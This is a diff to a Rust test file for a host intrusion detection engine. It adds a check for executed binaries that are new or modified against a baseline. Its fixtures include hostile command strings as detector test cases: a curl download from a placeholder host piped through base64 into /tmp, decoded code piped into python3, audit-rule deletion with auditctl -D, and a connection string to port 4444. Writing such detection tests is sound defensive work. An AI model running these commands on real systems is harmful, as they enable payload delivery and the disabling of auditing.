@@ -8,6 +8,7 @@ use super::engine::{Engine, Mode};
 use super::finding::Resource;
 use super::policy::{Policy, DEFAULT_FILES};
 use crate::event::{Ancestor, Binary, EnvVar, ExecEvent, Sensor, Stdio};
+use crate::fs::baseline::Verdict;
 
 const REMOTE: &str = "tcp 10.0.0.5:41234->203.0.113.7:4444 ESTABLISHED";
 
@@ -28,6 +29,7 @@ fn ev(exe: &str, args: &[&str]) -> ExecEvent {
             memfd: false,
             size: Some(1),
             sha256: None,
+            verdict: None,
             key: None,
         },
         args: args.iter().map(|a| a.to_string()).collect(),
@@ -54,6 +56,11 @@ fn stdin(mut e: ExecEvent, s: Stdio) -> ExecEvent {
 
 fn env(mut e: ExecEvent, k: &str, v: &str) -> ExecEvent {
     e.env.push(EnvVar { name: k.into(), val: v.into() });
+    e
+}
+
+fn verdict(mut e: ExecEvent, v: Verdict) -> ExecEvent {
+    e.binary.verdict = Some(v);
     e
 }
 
@@ -126,6 +133,8 @@ fn positives() -> Vec<(&'static str, ExecEvent)> {
         ("audit_system_tampering", ev("/sbin/auditctl", &["auditctl", "-D"])),
         ("piped_encoded_download", ev("/bin/sh", &["sh", "-c", "curl -s http://x/p | base64 -d > /tmp/p"])),
         ("piped_encoded_code_execution", ev("/bin/bash", &["bash", "-c", "echo cHJpbnQoMSk= | base64 --decode | python3"])),
+        ("added_binary_executed", verdict(ev("/app/bin/helper", &["helper"]), Verdict::Added)),
+        ("added_binary_executed", verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Modified)),
     ]
 }
 
@@ -202,6 +211,8 @@ fn negatives() -> Vec<(&'static str, ExecEvent)> {
         ("audit_system_tampering", ev("/usr/bin/journalctl", &["journalctl", "-u", "app"])),
         ("piped_encoded_download", ev("/bin/sh", &["sh", "-c", "curl -fsS http://localhost:8080/healthz"])),
         ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo e30= | base64 -d | jq ."])),
+        ("added_binary_executed", verdict(ev("/usr/bin/ls", &["ls"]), Verdict::Builtin)),
+        ("added_binary_executed", ev("/usr/bin/ls", &["ls"])),
     ]
 }
 
